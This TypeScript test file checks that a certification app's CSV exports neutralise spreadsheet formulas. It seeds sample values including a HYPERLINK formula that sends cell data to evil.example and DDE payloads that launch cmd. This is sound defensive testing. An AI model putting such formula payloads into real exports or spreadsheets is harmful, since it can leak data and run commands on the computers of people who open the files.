import { CertificateIssuer } from '@keurmerk/certificates';
import { csvField, csvLine } from '@keurmerk/common';
import { createScenario, PASSWORD, Scenario } from '../support/scenario';
import { startTestApp, TestApp } from '../support/test-app';
import { webSession } from './support/web-session';

/**
 * Issue 16 item 1: text that people outside the scheme type (a street, a town, an organisation's name)
 * reaches every CSV export. A spreadsheet runs a cell that starts with = + - @, a tab or a carriage
 * return as a formula; the one CSV writer (@keurmerk/common csv.ts) prefixes such a cell with a quote.
 */
const STREET = '=HYPERLINK("http://evil.example/?x="&A1,"klik")';
const TOWN = "+cmd|' /C calc'!A0";
const HOLDER = "@SUM(1+1)*cmd|' /C calc'!A0";

describe('CSV exports neutralise formulas', () => {
  let t: TestApp;
  let s: Scenario;

  beforeAll(async () => {
    t = await startTestApp();
    s = await createScenario(t, 'csv');
    const locationId = await s.location({ straatnaam: STREET });
    // The town and the holder's name have no API to change them after registration: set them as stored.
    await t.sql('UPDATE location SET city = $1 WHERE id = $2', [TOWN, locationId]);
    await t.sql('UPDATE organisation SET name = $1 WHERE id = $2', [HOLDER, s.id('landlordA')]);
    const number = await s.decide(await s.inspect(locationId));
    await t.app.get(CertificateIssuer).issue(number);
  });
  afterAll(() => t.close());

  it.each([
    ['=1+1', "'=1+1"],
    ['+31 6 1234', "'+31 6 1234"],
    ['-2', "'-2"],
    ['@x', "'@x"],
    ['\tx', "'\tx"],
    ['\rx', '"\'\rx"'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['=a,"b"', '"\'=a,""b"""'],
    ['Tuinbouwweg', 'Tuinbouwweg'],
    ['', ''],
  ])('writes the text %j as %j', (value, written) => {
    expect(csvField(value)).toBe(written);
  });

  it('leaves numbers, also negative ones, and empty cells as they are', () => {
    expect(csvLine([-3, 12, null, undefined, 'x'])).toBe('-3,12,,,x\r\n');
  });

  const assertNeutral = (csv: string) => {
    expect(csv).toContain(csvField(STREET));
    expect(csv).toContain(csvField(TOWN));
    expect(csv).toContain(csvField(HOLDER));
    // No cell of any line starts with a formula character.
    for (const line of csv.split('\r\n').filter(Boolean)) {
      const cells = line.match(/("([^"]|"")*"|[^,]*)(,|$)/g) ?? [];
      for (const cell of cells) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
    }
  };

  it('the open register (GET /v1/register as text/csv)', async () => {
    const response = await t.http.get('/v1/register').set('Accept', 'text/csv').expect(200);
    assertNeutral(response.text);
  });

  it.each(['/app/gemeente/export.csv', '/app/gemeente/lijst.csv'])("the municipality's %s", async (path) => {
    const session = await webSession(t, 'csv-municipality@scenario.test', PASSWORD);
    const response = await t.http.get(path).set('Cookie', session.cookie).expect(200);
    expect(response.headers['content-type']).toMatch(/^text\/csv/);
    assertNeutral(response.text);
  });
});
